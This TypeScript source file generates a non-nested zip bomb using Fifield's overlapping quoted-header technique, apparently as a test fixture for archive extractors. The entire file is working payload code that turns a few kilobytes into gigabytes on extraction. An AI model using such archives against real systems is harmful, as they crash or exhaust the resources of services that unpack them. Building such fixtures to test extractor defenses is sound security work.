// An archive of a few kilobytes that declares gigabytes, without nesting.
import { deflateRawSync } from 'node:zlib';
import { u16, u32 } from './zip-builder.ts';

/**
 * A bomb of quoted overlap (Fifield): each entry's data begins with a stored Deflate block that quotes the next entry's
 * local header, so that every entry includes the one kernel at the end.
 */
export function quotedOverlapBomb(count: number): Buffer {
  const kernel = deflateRawSync(Buffer.alloc(1 << 20));
  const plain = Array.from({ length: count }, (_, i) => `f${String(i).padStart(4, '0')}`);
  let tail = kernel;
  let inner = 1 << 20;
  const headers: { name: string; offsetFromEnd: number; compressed: number; bytes: number }[] = [];
  for (const name of plain.toReversed()) {
    const local = Buffer.concat([
      u32(0x04034b50),
      u16(20),
      u16(0),
      u16(8),
      u16(0),
      u16(0x21),
      u32(0),
      u32(tail.length),
      u32(inner),
      u16(name.length),
      u16(0),
      Buffer.from(name),
    ]);
    headers.unshift({ name, offsetFromEnd: 0, compressed: tail.length, bytes: inner });
    const quoted = Buffer.concat([
      Buffer.from([0]),
      u16(local.length),
      u16(~local.length & 0xffff),
    ]);
    tail = Buffer.concat([quoted, local, tail]);
    inner += local.length;
    const [head] = headers;
    if (head !== undefined) head.offsetFromEnd = tail.length - 5;
  }
  const body = tail.subarray(5);
  const directory = Buffer.concat(
    headers.map(({ name, offsetFromEnd, compressed, bytes }) =>
      Buffer.concat([
        u32(0x02014b50),
        u16(0x031e),
        u16(20),
        u16(0),
        u16(8),
        u16(0),
        u16(0x21),
        u32(0),
        u32(compressed),
        u32(bytes),
        u16(name.length),
        u16(0),
        u16(0),
        u16(0),
        u16(0),
        u32(0),
        u32(body.length - offsetFromEnd),
        Buffer.from(name),
      ]),
    ),
  );
  const end = Buffer.concat([
    u32(0x06054b50),
    u16(0),
    u16(0),
    u16(count),
    u16(count),
    u32(directory.length),
    u32(body.length),
    u16(0),
  ]);
  return Buffer.concat([body, directory, end]);
}
